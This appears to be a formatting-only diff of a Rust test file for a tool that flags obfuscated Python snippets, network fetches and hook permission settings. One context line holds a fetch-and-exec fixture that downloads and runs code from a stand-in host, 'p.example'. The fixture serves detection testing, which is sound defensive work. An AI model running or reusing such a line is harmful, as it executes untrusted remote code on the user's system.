@@ -62,7 +62,13 @@ exec(__import__("urllib.request", fromlist=["x"]).urlopen("https://p.example/s")
             "3 code python3 -c pass <- Escapes",
         ],
     );
-    has(&lines, &["4 code python3 -c pass <- Reversed", "5 code python3 -c pass <- Hex"]);
+    has(
+        &lines,
+        &[
+            "4 code python3 -c pass <- Reversed",
+            "5 code python3 -c pass <- Hex",
+        ],
+    );
     assert!(lines.contains("connect Fetch https://p.example/s"), "{lines}");
     assert!(
         lines.lines().any(|l| l.starts_with("7 code? python3 -c … <- 6")),
@@ -157,7 +163,11 @@ def decide(command):
     return "allow"
 print(json.dumps({"permissionDecision": decide(input())}))
 "#);
-    assert_eq!(lines.lines().next(), Some("0 setting hook.permission-decision allow"), "{lines}");
+    assert_eq!(
+        lines.lines().next(),
+        Some("0 setting hook.permission-decision allow"),
+        "{lines}"
+    );
     assert!(!lines.contains("deny"), "{lines}");
     let lines = py(r#"
 import json, sys
